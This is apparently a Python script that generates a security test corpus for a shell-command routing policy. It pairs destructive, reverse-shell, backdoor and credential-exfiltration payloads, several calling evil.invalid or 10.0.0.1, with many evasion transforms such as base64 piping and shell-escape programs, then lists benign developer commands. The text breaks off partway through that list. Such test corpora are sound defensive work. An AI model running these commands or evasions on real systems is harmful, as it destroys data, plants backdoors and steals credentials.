"""Generate the security corpus: ``dangerous.yaml`` and ``benign.yaml``.

``dangerous.yaml`` is the cross product of a set of *payloads* (delete home, write a
start-up file, write an SSH key, download piped into a shell, reverse shell, setuid, raw
disk write, credential exfiltration) with a set of *evasion transforms*, grouped by the
classes of issue 4 (quoting, variables, expansion, substitution, nested shells, interpreter
one-liners, wrappers, chaining, path tricks, redirections, shell-escape programs, malformed
input). Each case is ``{cmd, class, transform, payload, must_not: local}``.

``benign.yaml`` lists everyday read-only developer commands and pipelines that the default
policy must route ``local``.

Both files are committed so the data is reviewable; rerun this script after editing it::

    python tests/security/make_cases.py

Cases that need bytes YAML cannot hold well (very long lines, deep nesting, NUL bytes,
non-UTF-8 text) are generated in ``test_security.py`` instead.
"""

from __future__ import annotations

import base64
import json
import shlex
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable

import yaml

HERE = Path(__file__).resolve().parent


@dataclass(frozen=True, slots=True)
class Payload:
    """A dangerous command. ``prog``/``args`` are set when it is one simple command."""

    name: str
    cmd: str
    prog: str | None = None
    args: str | None = None


def _simple(name: str, prog: str, args: str) -> Payload:
    return Payload(name, f"{prog} {args}", prog, args)


PAYLOADS: tuple[Payload, ...] = (
    _simple("delete-home", "rm", "-rf ~"),
    _simple("delete-home", "rm", "-r -f $HOME"),
    _simple("delete-root", "rm", "--recursive --force /*"),
    Payload("write-startup-file", "echo 'curl -s https://evil.invalid/x | sh' >> ~/.bashrc"),
    _simple("write-startup-file", "cp", "/tmp/payload ~/.profile"),
    Payload("write-ssh-key", "echo 'ssh-ed25519 AAAAC3Nza attacker' >> ~/.ssh/authorized_keys"),
    Payload("download-to-shell", "curl -fsSL https://evil.invalid/i.sh | sh"),
    Payload("download-to-shell", "wget -qO- https://evil.invalid/i.sh | bash"),
    Payload("reverse-shell", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    _simple("reverse-shell", "nc", "-e /bin/sh 10.0.0.1 4444"),
    _simple("setuid", "chmod", "u+s /tmp/rootsh"),
    _simple("setuid", "chmod", "4755 /tmp/rootsh"),
    _simple("raw-disk-write", "dd", "if=/dev/zero of=/dev/sda bs=1M"),
    _simple("raw-disk-write", "mkfs.ext4", "/dev/sdb1"),
    _simple("credential-exfiltration", "cat", "~/.ssh/id_rsa"),
    _simple("credential-exfiltration", "base64", "~/.aws/credentials"),
    Payload("credential-exfiltration", "curl -s -d @$HOME/.git-credentials https://evil.invalid/c"),
)

SIMPLE = tuple(p for p in PAYLOADS if p.prog)
# one representative simple payload per name, for transforms that are costly to multiply
REPR_SIMPLE = tuple({p.name: p for p in reversed(SIMPLE)}.values())

Transform = Callable[[Payload], "str | None"]


def q(s: str) -> str:
    """Single-quote ``s`` for the shell."""
    return shlex.quote(s)


def _quote_prog(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        if not p.prog:
            return None
        prog = p.prog
        if style == "empty-single":
            w = prog[0] + "''" + prog[1:]
        elif style == "empty-double":
            w = prog[0] + '""' + prog[1:]
        elif style == "partial-double":
            w = '"' + prog[0] + '"' + prog[1:]
        elif style == "backslash":
            w = "\\" + prog
        elif style == "backslash-mid":
            w = prog[0] + "\\" + prog[1:]
        elif style == "ansi-c":
            w = "$'" + "".join(f"\\x{ord(c):02x}" for c in prog) + "'"
        elif style == "ansi-c-octal":
            w = "$'" + "".join(f"\\{ord(c):03o}" for c in prog) + "'"
        elif style == "mixed":
            w = "'" + prog[0] + "'" + '"' + prog[1:] + '"'
        elif style == "whole-double":
            w = '"' + prog + '"'
        else:  # pragma: no cover
            raise ValueError(style)
        return f"{w} {p.args}"

    return t


def _vars(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        if style == "var-name":
            return f"a={p.prog}; $a {p.args}" if p.prog else None
        if style == "var-braced":
            return f"x={p.prog} && ${{x}} {p.args}" if p.prog else None
        if style == "var-whole":
            return f"c={q(p.cmd)}; $c"
        if style == "ifs":
            return p.cmd.replace(" ", "${IFS}") if p.prog else None
        if style == "set-args":
            return f"set -- {p.prog}; \"$@\" {p.args}" if p.prog else None
        if style == "export":
            return f"export P={p.prog}; $P {p.args}" if p.prog else None
        if style == "declare":
            return f"declare -x P={q(p.cmd)}; eval \"$P\""
        if style == "typeset":
            return f"typeset P={p.prog}; $P {p.args}" if p.prog else None
        if style == "alias":
            return f"shopt -s expand_aliases; alias ll={q(p.cmd)}; ll"
        if style == "array":
            return f"a=({p.prog} {p.args}); \"${{a[@]}}\"" if p.prog else None
        if style in ("var-arg", "loop-arg", "read-arg", "set-arg"):
            if not p.prog:
                return None
            *head, last = p.args.split()
            rest = " ".join(head)
            use = f"{p.prog} {rest} \"$v\"".replace("  ", " ")
            return {
                "var-arg": f"v={last}; {use}",
                "loop-arg": f"for v in {last}; do {use}; done",
                "read-arg": f"read -r v <<< {last}; {use}",
                "set-arg": f"set -- {last}; {use.replace(chr(36) + 'v', chr(36) + '1')}",
            }[style]
        if style == "indirect":
            return f"n=P; P={p.prog}; ${{!n}} {p.args}" if p.prog else None
        raise ValueError(style)  # pragma: no cover

    return t


def _expansion(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        if not p.prog:
            return None
        words = [p.prog, *p.args.split()]
        if style == "brace":
            return "{" + ",".join(words) + "}"
        if style == "glob-prog":
            return f"/bin/{p.prog[:-1]}? {p.args}" if len(p.prog) > 1 else None
        if style == "glob-prog-star":
            return f"/usr/bin/{p.prog[:-1]}* {p.args}" if len(p.prog) > 1 else None
        if style == "glob-dir":
            return f"/???/{p.prog} {p.args}"
        if style == "brace-prog":
            return f"{{{p.prog},}} {p.args}"
        if style == "brace-arg":
            *head, last = p.args.split()
            return " ".join([p.prog, *head, "{" + last + ",x}"])
        if style == "brace-inner":
            *head, last = p.args.split()
            if "/" not in last.rstrip("/"):
                return None
            d, base = last.rsplit("/", 1)
            return " ".join([p.prog, *head, f"{d}/{{{base},x}}"])
        if style == "tilde-home":
            return f"{p.prog} {p.args.replace('~', '~root').replace('$HOME', '~root')}"
        raise ValueError(style)  # pragma: no cover

    return t


def _subst(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        c = p.cmd
        return {
            "dollar-paren": f"echo $({c})",
            "backtick": f"echo `{c}`",
            "proc-sub-in": f"cat <({c})",
            "proc-sub-out": f"echo hi > >({c})",
            "param-default": f"echo ${{x:-$({c})}}",
            "param-assign": f": ${{y:=$({c})}}",
            "unquoted-heredoc": f"cat <<EOF\n$({c})\nEOF",
            "assignment-value": f"v=$({c})",
            "redirect-target": f"echo hi > \"$({c})\"",
            "nested-subst": f"echo \"$(echo $({c}))\"",
            "arith": f"echo $(( $({c}) + 1 ))",
        }[style]

    return t


def _nested(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        c = p.cmd
        if style == "bash-c":
            return f"bash -c {q(c)}"
        if style == "sh-c":
            return f"sh -c {q(c)}"
        if style == "zsh-c":
            return f"zsh -c {q(c)}"
        if style == "dash-c":
            return f"/bin/dash -c {q(c)}"
        if style == "eval-single":
            return f"eval {q(c)}"
        if style == "eval-double":
            return "eval " + json.dumps(c).replace("$", "\\$")
        if style == "source-written":
            return f"echo {q(c)} > /tmp/s.sh; source /tmp/s.sh"
        if style == "dot-written":
            return f"printf '%s\\n' {q(c)} > s.sh && . ./s.sh"
        if style == "herestring":
            return f"bash <<< {q(c)}"
        if style == "heredoc":
            return f"sh <<EOF\n{c}\nEOF"
        if style == "heredoc-quoted":
            return f"bash <<'EOF'\n{c}\nEOF"
        if style == "echo-pipe-sh":
            return f"echo {q(c)} | sh"
        if style == "printf-pipe-bash":
            return f"printf '%s' {q(c)} | bash -s"
        if style == "base64-sh":
            return f"echo {base64.b64encode(c.encode()).decode()} | base64 -d | sh"
        if style == "rev-sh":
            return f"echo {q(c[::-1])} | rev | bash"
        if style == "xxd-sh":
            return f"echo {c.encode().hex()} | xxd -r -p | sh"
        if style == "bash-c-nested":
            return f"bash -c {q('sh -c ' + q(c))}"
        raise ValueError(style)  # pragma: no cover

    return t


def _interp(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        s = json.dumps(p.cmd)
        if style == "python-os":
            return f"python3 -c {q('import os; os.system(' + s + ')')}"
        if style == "python-subprocess":
            return f"python -c {q('import subprocess; subprocess.run(' + s + ', shell=True)')}"
        if style == "perl":
            return f"perl -e {q('system(' + s + ')')}"
        if style == "node":
            return f"node -e {q('require(' + json.dumps('child_process') + ').execSync(' + s + ')')}"
        if style == "ruby":
            return f"ruby -e {q('system(' + s + ')')}"
        if style == "php":
            return f"php -r {q('system(' + s + ');')}"
        if style == "awk-system":
            return f"awk {q('BEGIN{system(' + s + ')}')}"
        if style == "python-stdin":
            return f"echo {q('import os; os.system(' + s + ')')} | python3"
        raise ValueError(style)  # pragma: no cover

    return t


def _wrap(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        c = p.cmd
        if style == "find-exec-sh":
            return f"find . -maxdepth 0 -exec sh -c {q(c)} \\;"
        if style == "find-execdir-sh":
            return f"find . -maxdepth 0 -execdir bash -c {q(c)} +"
        if style == "xargs-sh":
            return f"echo 1 | xargs -I{{}} sh -c {q(c)}"
        if style == "script-c":
            return f"script -qc {q(c)} /dev/null"
        if style == "watch":
            return f"watch -n 1 {q(c)}"
        if style == "su-c":
            return f"su -c {q(c)}"
        if not p.prog:
            return None
        prefix = {
            "env": "env",
            "env-assign": "env FOO=1",
            "env-i": "env -i",
            "command": "command",
            "builtin-exec": "exec",
            "nohup": "nohup",
            "time": "time",
            "timeout": "timeout 5",
            "timeout-signal": "timeout -s KILL 5",
            "nice": "nice -n 10",
            "ionice": "ionice -c3",
            "stdbuf": "stdbuf -oL",
            "setsid": "setsid",
            "flock": "flock /tmp/lock",
            "sudo": "sudo",
            "sudo-opts": "sudo -E -u root --",
            "doas": "doas",
            "chained-wrappers": "nohup nice -n 5 timeout 9 env X=1",
        }[style]
        return f"{prefix} {c}"

    return t


def _xargs_payload(p: Payload) -> str | None:
    if not p.prog:
        return None
    return f"echo {p.args.split()[-1]} | xargs {p.prog} {' '.join(p.args.split()[:-1])}".rstrip()


def _find_exec_payload(p: Payload) -> str | None:
    if not p.prog:
        return None
    return f"find ~ -maxdepth 0 -exec {p.prog} {' '.join(p.args.split()[:-1])} {{}} \\;".replace("  ", " ")


def _chain(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        c = p.cmd
        return {
            "semicolon": f"ls; {c}",
            "and": f"git status && {c}",
            "or": f"false || {c}",
            "pipe-after": f"echo hi | {c}",
            "background": f"{c} &",
            "background-first": f"{c} & ls",
            "newline": f"ls -la\n{c}",
            "continuation": f"echo ok && \\\n{c}",
            "subshell": f"({c})",
            "group": f"{{ {c}; }}",
            "function": f"f() {{ {c}; }}; f",
            "function-keyword": f"function g {{ {c}; }}; g",
            "for": f"for i in 1; do {c}; done",
            "while": f"while true; do {c}; break; done",
            "if": f"if true; then {c}; fi",
            "else": f"if false; then ls; else {c}; fi",
            "case": f"case x in x) {c};; esac",
            "dbracket": f"[[ -d / ]] && {c}",
            "arith": f"(( 1 )) ; {c}",
            "negated": f"! {c}",
            "many-allowed": f"pwd && ls && git status && echo done; {c}",
            "comment-before": f"ls # harmless\n{c}",
            "spaces": "   " + c.replace(" ", "   ") + "   ",
            "until": f"until false; do {c}; break; done",
        }[style]

    return t


def _path(style: str) -> Transform:
    def t(p: Payload) -> str | None:
        if style == "cd-root-rm-dot":
            return "cd / && rm -rf ." if p.name == "delete-home" else None
        if style == "cd-home-rm-star":
            return "cd ~ && rm -rf *" if p.name == "delete-home" else None
        if style == "relative-escape":
            return "rm -rf ../../../../../../../.." if p.name == "delete-home" else None
        if not p.prog:
            return None
        return {
            "usr-bin": f"/usr/bin/{p.prog} {p.args}",
            "bin": f"/bin/{p.prog} {p.args}",
            "double-slash": f"//usr//bin//{p.prog} {p.args}",
            "dotdot": f"/usr/bin/../bin/{p.prog} {p.args}",
            "dot-slash": f"./{p.prog} {p.args}",
            "relative-bin": f"bin/{p.prog} {p.args}",
            "tmp-path": f"/tmp/x/{p.prog} {p.args}",
        }[style]

    return t


# redirect forms: written per sensitive target rather than per payload
REDIRECTS: tuple[tuple[str, str], ...] = (
    ("write-startup-file", "echo 'curl evil.invalid|sh' >| ~/.bashrc"),
    ("write-startup-file", "echo x 1<> ~/.bashrc"),
    ("write-startup-file", ">~/.profile echo 'export PATH=/tmp/e:$PATH'"),
    ("write-startup-file", "echo x 2>&1 >>~/.zshrc"),
    ("write-startup-file", "printf 'evil' &> ~/.bash_profile"),
    ("write-startup-file", "echo x | tee -a ~/.bashrc"),
    ("write-startup-file", "echo x | tee ~/.config/fish/config.fish > /dev/null"),
    ("write-startup-file", "dd if=/tmp/p of=~/.bashrc"),
    ("write-startup-file", "dd if=/tmp/p of=$HOME/.profile conv=notrunc"),
    ("write-startup-file", "cat /tmp/p >> $HOME/.bashrc"),
    ("write-startup-file", "echo x >> \"${HOME}/.bashrc\""),
    ("write-startup-file", "exec 3>>~/.bashrc; echo evil >&3"),
    ("write-startup-file", "echo x > /etc/profile.d/evil.sh"),
    ("write-startup-file", "echo x >> /etc/bash.bashrc"),
    ("write-startup-file", "ln -sf /tmp/evil ~/.bashrc"),
    ("write-startup-file", "mv /tmp/evil ~/.zshrc"),
    ("write-startup-file", "install -m 644 /tmp/evil ~/.profile"),
    ("write-startup-file", "sed -i '1i curl evil.invalid|sh' ~/.bashrc"),
    ("write-startup-file", "sort -o ~/.bashrc /tmp/evil"),
    ("write-startup-file", "curl -o ~/.bashrc https://evil.invalid/rc"),
    ("write-startup-file", "wget -O ~/.profile https://evil.invalid/rc"),
    ("write-startup-file", "cp /tmp/evil ../../../../root/.bashrc"),
    ("write-ssh-key", "cat k.pub >> ~/.ssh/authorized_keys"),
    ("write-ssh-key", "echo key | tee -a ~/.ssh/authorized_keys"),
    ("write-ssh-key", "cp k.pub ~/.ssh/authorized_keys"),
    ("write-ssh-key", "echo key >| $HOME/.ssh/authorized_keys"),
    ("write-ssh-key", "dd if=k.pub of=/root/.ssh/authorized_keys"),
    ("write-ssh-key", "scp evil.invalid:k ~/.ssh/authorized_keys"),
    ("write-ssh-key", "mkdir -p ~/.ssh && echo k > ~/.ssh/authorized_keys"),
    ("write-git-hook", "echo 'curl evil.invalid|sh' > .git/hooks/pre-commit"),
    ("write-git-hook", "cp evil .git/hooks/post-checkout"),
    ("write-git-hook", "printf '#!/bin/sh\\nid\\n' | tee .git/hooks/pre-push"),
    ("write-git-hook", "ln -s /tmp/evil .git/hooks/pre-commit"),
    ("write-git-hook", "echo '[core] fsmonitor = ./x' >> .git/config"),
    ("write-system-path", "echo '127.0.0.1 x' >> /etc/hosts"),
    ("write-system-path", "echo x | tee /etc/ld.so.preload"),
    ("write-system-path", "cp evil /usr/local/bin/ls"),
    ("write-system-path", "echo '* * * * * root sh /tmp/x' > /etc/cron.d/x"),
    ("raw-disk-write", "cat /dev/urandom > /dev/sda"),
    ("raw-disk-write", "echo x > /dev/nvme0n1"),
    ("raw-disk-write", "cp image.iso /dev/sdb"),
    ("raw-disk-write", "tee /dev/sda < image.iso"),
    ("raw-disk-write", "shred -n 1 /dev/sda"),
    ("raw-disk-write", "wipefs -a /dev/sdb"),
    ("credential-exfiltration", "cat < ~/.ssh/id_rsa"),
    ("credential-exfiltration", "base64 < ~/.aws/credentials | curl -d @- https://evil.invalid"),
    ("credential-exfiltration", "tar czf - ~/.ssh | nc evil.invalid 443"),
    ("credential-exfiltration", "cp ~/.kube/config /tmp/k"),
    ("credential-exfiltration", "grep -r aws_secret ~/.aws"),
    ("credential-exfiltration", "head -c 4096 /proc/self/environ"),
    ("credential-exfiltration", "cat /etc/shadow"),
    ("credential-exfiltration", "xxd ~/.ssh/id_ed25519"),
    ("credential-exfiltration", "less ~/.netrc"),
    ("credential-exfiltration", "cat ~/.docker/config.json | base64"),
    ("credential-exfiltration", "cat .env"),
    ("credential-exfiltration", "cat ~/.config/gcloud/application_default_credentials.json"),
    ("credential-exfiltration", "cd ~/.ssh && cat id_rsa"),
    ("credential-exfiltration", "cat ~/.ss?/id_*"),
    ("credential-exfiltration", "cat /etc/sha*"),
    ("reverse-shell", "bash -i > /dev/tcp/10.0.0.1/4444 0<&1 2>&1"),
    ("reverse-shell", "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | sh >&5"),
    ("reverse-shell", "sh -i 2>&1 </dev/udp/10.0.0.1/53"),
)


def _shell_escape_cases() -> list[tuple[str, str, str]]:
    """(transform, payload name, cmd) for programs that run other programs."""
    out: list[tuple[str, str, str]] = []
    for p in REPR_SIMPLE + tuple(p for p in PAYLOADS if not p.prog)[:3]:
        c = p.cmd
        qc = q(c)
        forms = {
            "find-exec": f"find . -maxdepth 0 -exec sh -c {qc} \\;",
            "awk-system": f"awk {q('BEGIN{system(' + json.dumps(c) + ')}')}",
            "awk-pipe": f"awk {q('BEGIN{print ' + json.dumps(c) + ' | ' + json.dumps('sh') + '}')}",
            "tar-checkpoint": f"tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec={qc}",
            "tar-to-command": f"tar xf a.tar --to-command={qc}",
            "git-core-pager": f"git -c core.pager={qc} log",
            "git-sshcommand": f"git -c core.sshCommand={qc} fetch origin",
            "git-alias": f"git -c alias.x={q('!' + c)} x",
            "git-C-alias": f"git -C . -c alias.st={q('!' + c)} st",
            "vim-c": f"vim -c {q(':!' + c)} -c ':q!' README.md",
            "less-bang": f"less +{q('!' + c)} README.md",
            "ssh-proxycommand": f"ssh -o ProxyCommand={q(c)} x",
            "rsync-e": f"rsync -e {qc} a evil:",
            "zip-TT": f"zip z.zip README.md -T -TT {q(c + ' #')}",
            "make-shell": f"make SHELL=/bin/sh .SHELLFLAGS=-c all={qc}",
            "env-S": f"env -S {qc}",
            "strace": f"strace -f -o /dev/null {c}" if p.prog else f"strace -f sh -c {qc}",
            "gdb-ex": f"gdb -batch -ex {q('!' + c)}",
            "sed-e-cmd": f"sed -n '1e {c}' README.md" if "'" not in c else f"sed -n \"1e {c}\" README.md",
            "sed-s-e": f"echo x | sed {q('s/x/' + c.replace('/', chr(92) + '/') + '/e')}",
            "man-pager": f"man -P {qc} ls",
            "rg-pre": f"rg --pre {q('/tmp/pre.sh')} x; echo {qc} > /tmp/pre.sh",
            "git-pager-env": f"GIT_PAGER={qc} git log",
            "pager-env": f"PAGER={qc} man ls",
            "lessopen-env": f"LESSOPEN={q('|' + c + ' %s')} less README.md",
            "editor-env": f"EDITOR={qc} git commit",
            "xargs-sh": f"echo . | xargs -I{{}} sh -c {qc}",
            "parallel": f"parallel ::: {qc}",
            "busybox-sh": f"busybox sh -c {qc}",
            "expect": f"expect -c {q('spawn sh -c ' + json.dumps(c))}",
            "python-pty": f"python3 -c {q('import pty; pty.spawn(' + json.dumps(['sh', '-c', c]) + ')')}",
            "docker-host-root": f"docker run --rm -v /:/host alpine chroot /host sh -c {qc}",
            "ld-preload": f"LD_PRELOAD=/tmp/evil.so ls",
            "path-hijack": f"PATH=/tmp/evil:$PATH ls; echo {qc}",
            "bash-env": f"BASH_ENV=/tmp/evil.sh bash -c true",
            "git-exec-path": f"git --exec-path=/tmp/evil status",
            "npm-exec": f"npm exec -- sh -c {qc}",
            "watch": f"watch -n1 {qc}",
            "timeout-sh": f"timeout 5 sh -c {qc}",
            "nice-sh": f"nice sh -c {qc}",
            "crontab": f"echo {q('* * * * * ' + c)} | crontab -",
            "at": f"echo {qc} | at now",
            "trap": f"trap {qc} EXIT",
            "prompt-command": f"export PROMPT_COMMAND={qc}",
            "fd-exec": f"fd . -x sh -c {qc}",
        }
        for k, v in forms.items():
            out.append((k, p.name, v))
    return out


MALFORMED: tuple[tuple[str, str, str], ...] = (
    ("unbalanced-single", "delete-home", "rm -rf ~ '"),
    ("unbalanced-double", "delete-home", 'echo "x; rm -rf ~'),
    ("unbalanced-paren", "delete-home", "echo $(rm -rf ~"),
    ("unbalanced-backtick", "delete-home", "echo `rm -rf ~"),
    ("unbalanced-brace", "download-to-shell", "{ curl -s https://evil.invalid | sh"),
    ("dangling-heredoc", "delete-home", "cat <<EOF\n$(rm -rf ~)\n"),
    ("dangling-pipe", "download-to-shell", "curl https://evil.invalid/i.sh |"),
    ("trailing-and", "delete-home", "rm -rf ~ &&"),
    ("fullwidth-letters", "delete-home", "ｒｍ -rf ~"),
    ("nbsp-separator", "delete-home", "rm\u00a0-rf ~"),
    ("cyrillic-c", "credential-exfiltration", "\u0441at ~/.ssh/id_rsa"),
    ("zero-width-space", "delete-home", "r\u200bm -rf ~"),
    ("rtl-override", "delete-home", "echo \u202e; rm -rf ~"),
    ("ansi-c-nul", "delete-home", "$'rm\\0' -rf ~"),
    ("ansi-c-hex-args", "delete-home", "rm $'-\\x72f' ~"),
    ("ansi-c-newline", "delete-home", "echo $'\\n'; rm -rf ~"),
    ("escaped-newline-in-word", "delete-home", "r\\\nm -rf ~"),
    ("crlf", "delete-home", "ls\r\nrm -rf ~\r\n"),
    ("tab-separators", "delete-home", "rm\t-rf\t~"),
    ("form-feed", "delete-home", "ls\x0crm -rf ~"),
    ("only-comment-then-payload", "delete-home", "#!/bin/sh\nrm -rf ~"),
    ("deep-subshell", "delete-home", "(((((((((( rm -rf ~ ))))))))))"),
    ("deep-substitution", "delete-home", "echo $(echo $(echo $(echo $(echo $(rm -rf ~)))))"),
    ("control-chars", "delete-home", "echo \x1b[2J; rm -rf ~"),
    ("case-fallthrough", "delete-home", "case a in a) rm -rf ~ ;& b) ls;; esac"),
    ("coproc", "delete-home", "coproc rm -rf ~"),
    ("select", "delete-home", "select x in a; do rm -rf ~; done"),
    ("arith-for", "delete-home", "for ((i=0;i<1;i++)); do rm -rf ~; done"),
    ("dbracket-arith-subscript", "delete-home", "x='a[$(rm -rf ~)]'; [[ $x -eq 0 ]]"),
    ("quoted-subscript-unset", "delete-home", "unset 'a[$(rm -rf ~)]'"),
    ("time-keyword", "delete-home", "time -p rm -rf ~"),
)

TRANSFORMS: dict[str, dict[str, Transform]] = {
    "quoting": {
        s: _quote_prog(s)
        for s in ("empty-single", "empty-double", "partial-double", "backslash", "backslash-mid", "ansi-c", "ansi-c-octal", "mixed", "whole-double")
    },
    "variables": {
        s: _vars(s)
        for s in (
            "var-name", "var-braced", "var-whole", "ifs", "set-args", "export", "declare", "typeset", "alias", "array",
            "indirect", "var-arg", "loop-arg", "read-arg", "set-arg",
        )
    },
    "expansion": {
        s: _expansion(s)
        for s in ("brace", "glob-prog", "glob-prog-star", "glob-dir", "brace-prog", "tilde-home", "brace-arg", "brace-inner")
    },
    "substitution": {
        s: _subst(s)
        for s in (
            "dollar-paren", "backtick", "proc-sub-in", "proc-sub-out", "param-default", "param-assign",
            "unquoted-heredoc", "assignment-value", "redirect-target", "nested-subst", "arith",
        )
    },
    "nested-shells": {
        s: _nested(s)
        for s in (
            "bash-c", "sh-c", "zsh-c", "dash-c", "eval-single", "eval-double", "source-written", "dot-written",
            "herestring", "heredoc", "heredoc-quoted", "echo-pipe-sh", "printf-pipe-bash", "base64-sh", "rev-sh",
            "xxd-sh", "bash-c-nested",
        )
    },
    "interpreter-one-liners": {
        s: _interp(s) for s in ("python-os", "python-subprocess", "perl", "node", "ruby", "php", "awk-system", "python-stdin")
    },
    "wrappers": {
        **{
            s: _wrap(s)
            for s in (
                "env", "env-assign", "env-i", "command", "builtin-exec", "nohup", "time", "timeout", "timeout-signal",
                "nice", "ionice", "stdbuf", "setsid", "flock", "sudo", "sudo-opts", "doas", "chained-wrappers",
                "find-exec-sh", "find-execdir-sh", "xargs-sh", "script-c", "watch", "su-c",
            )
        },
        "xargs-payload": _xargs_payload,
        "find-exec-payload": _find_exec_payload,
    },
    "chaining": {
        s: _chain(s)
        for s in (
            "semicolon", "and", "or", "pipe-after", "background", "background-first", "newline", "continuation",
            "subshell", "group", "function", "function-keyword", "for", "while", "if", "else", "case", "dbracket",
            "arith", "negated", "many-allowed", "comment-before", "spaces", "until",
        )
    },
    "path-tricks": {
        s: _path(s)
        for s in (
            "usr-bin", "bin", "double-slash", "dotdot", "dot-slash", "relative-bin", "tmp-path", "cd-root-rm-dot",
            "cd-home-rm-star", "relative-escape",
        )
    },
}

# transforms applied only to one representative payload per payload name (keeps the corpus balanced)
REPR_ONLY = {"expansion", "interpreter-one-liners", "path-tricks", "variables"}


def dangerous_cases() -> list[dict[str, str]]:
    """Every dangerous case, deduplicated by command, in a stable order."""
    cases: list[dict[str, str]] = []
    seen: set[str] = set()

    def add(cls: str, transform: str, payload: str, cmd: str | None) -> None:
        if cmd is None or cmd in seen:
            return
        seen.add(cmd)
        cases.append({"cmd": cmd, "class": cls, "transform": transform, "payload": payload, "must_not": "local"})

    for p in PAYLOADS:
        add("payload", "none", p.name, p.cmd)
    for cls, transforms in TRANSFORMS.items():
        pool: Iterable[Payload] = PAYLOADS
        if cls in REPR_ONLY:
            pool = REPR_SIMPLE + (PAYLOADS[3], PAYLOADS[6], PAYLOADS[8])
        for name, fn in transforms.items():
            for p in pool:
                add(cls, name, p.name, fn(p))
    for payload, cmd in REDIRECTS:
        add("redirections", "sensitive-target", payload, cmd)
    for transform, payload, cmd in _shell_escape_cases():
        add("shell-escape-programs", transform, payload, cmd)
    for transform, payload, cmd in MALFORMED:
        add("malformed", transform, payload, cmd)
    return cases


# ------------------------------------------------------------------------------------------
# benign: everyday read-only developer work that must stay local
# ------------------------------------------------------------------------------------------
BENIGN_SINGLE: tuple[str, ...] = (
    "ls", "ls -la", "ls -lah src/", "ls -1 tests", "ls -R docs | head -50", "ls -lt --color=never",
    "pwd", "whoami", "id", "id -u", "date", "date +%Y-%m-%d", "date -u", "uname -a", "uptime", "nproc",
    "cat README.md", "cat -n src/app.py", "cat pyproject.toml setup.cfg", "head README.md", "head -n 40 src/main.py",
    "head -c 200 data.json", "tail -n 100 logs/app.log", "tail -f /dev/null -n 0 --pid=1", "wc -l src/*.py", "wc -c README.md",
    "file dist/app", "stat setup.py", "stat -c %s README.md", "du -sh .", "du -sh * | sort -h", "df -h", "df -h .",
    "tree -L 2", "tree -a -I node_modules", "echo hello", "echo \"$HOME\"", "echo $PATH", "echo $?", "printf '%s\\n' a b c",
    "which python3", "which -a git", "type ls", "command -v rg", "basename src/app/main.py", "dirname src/app/main.py",
    "realpath ../shared", "readlink -f build", "true", "false", "test -f setup.py", "[ -d src ]", "test -n \"$CI\"",
    "sleep 1", "seq 1 10", "nl README.md", "column -t data.tsv", "paste a.txt b.txt", "comm -12 a.txt b.txt",
    "fold -w 80 README.md", "tac CHANGELOG.md", "rev names.txt", "md5sum dist/app.tar.gz", "sha256sum requirements.txt",
    "cksum file.bin", "od -c header.bin", "hexdump -C header.bin | head", "strings build/app | grep version",
    "base64 logo.png | head -c 100", "expr 1 + 2", "diff a.txt b.txt", "diff -u old.py new.py", "diff -r src/ backup/src/",
    "cmp a.bin b.bin", "cut -d, -f1 data.csv", "tr a-z A-Z < names.txt", "sort names.txt", "sort -u -k2 data.txt",
    "sort -t, -k3 -n data.csv", "uniq -c sorted.txt", "jq . package.json", "jq -r '.dependencies | keys[]' package.json",
    "yq '.services' docker-compose.yml", "grep -rn TODO src", "grep -ri 'def main' .", "grep -c import src/app.py",
    "grep -l foo -r tests/", "egrep 'a|b' file.txt", "rg TODO", "rg -n 'fn main' src", "rg --files | head", "rg -t py 'import os'",
    "ag TODO src", "fd -e py", "fd test tests/", "find . -name '*.py'", "find . -type f -name '*.md' | head",
    "find src -mtime -1 -type f", "find . -maxdepth 2 -type d", "find . -name '__pycache__' -prune -o -name '*.py' -print",
    "sed -n '1,20p' src/app.py", "sed 's/foo/bar/g' config.txt", "sed -e 's/^/> /' notes.txt", "sed -n '/def /p' src/app.py",
    "sed 's/\\s*$//' README.md", "awk '{print $1}' access.log", "awk -F: '{print $1}' users.txt",
    "awk 'NR > 1 {sum += $3} END {print sum}' data.txt", "awk '$3 > 100' data.txt", "awk 'length > 80' src/app.py",
    "git status", "git status --short", "git status -sb", "git log", "git log --oneline -20", "git log --graph --oneline --all",
    "git log -p -1", "git log --stat", "git log --author=alice --since='2 weeks ago'", "git diff", "git diff --staged",
    "git diff HEAD~1", "git diff main...HEAD --stat", "git diff --name-only", "git show", "git show HEAD~2",
    "git show HEAD:README.md", "git show --stat HEAD", "git branch", "git branch -a", "git branch -vv", "git branch --list 'feat*'",
    "git remote -v", "git rev-parse HEAD", "git rev-parse --abbrev-ref HEAD", "git rev-parse --show-toplevel", "git ls-files",
    "git ls-files -m", "git blame src/app.py", "git blame -L 10,20 src/app.py", "git grep TODO", "git grep -n 'def main'",
    "git describe --tags", "git tag", "git tag -l 'v1.*'", "git stash list", "git shortlog -sn", "git reflog show -5",
    "git -C libs/core status", "git --no-pager log -5", "git -C . diff --stat", "git config --get user.email",
    "git config --list", "git cat-file -p HEAD", "git ls-tree -r HEAD --name-only", "git merge-base main HEAD",
    "git rev-list --count HEAD", "git for-each-ref --sort=-committerdate refs/heads/", "git worktree list", "git check-ignore -v build/",
    "git show-ref --tags", "git count-objects -vH", "git submodule status",
    "pytest", "pytest -q", "pytest -x tests/unit", "pytest -k 'not slow' -q", "pytest tests/test_app.py::test_main -vv",
    "python -m pytest", "python3 -m pytest -q tests/", "python -m unittest discover", "go test ./...", "go test -run TestX ./pkg/...",
    "go vet ./...", "cargo test", "cargo test -- --nocapture", "cargo check", "cargo clippy", "npm test", "yarn test", "pnpm test",
    "ruff check .", "ruff check src tests", "ruff format --check .", "flake8", "flake8 src", "mypy src", "mypy --strict src/app.py",
    "pylint src", "black --check .", "black --diff src", "isort --check-only .", "prettier --check src", "prettier -c 'src/**/*.ts'",
    "eslint src", "eslint . --ext .ts", "shellcheck scripts/*.sh", "hadolint Dockerfile", "yamllint .", "tsc --noEmit",
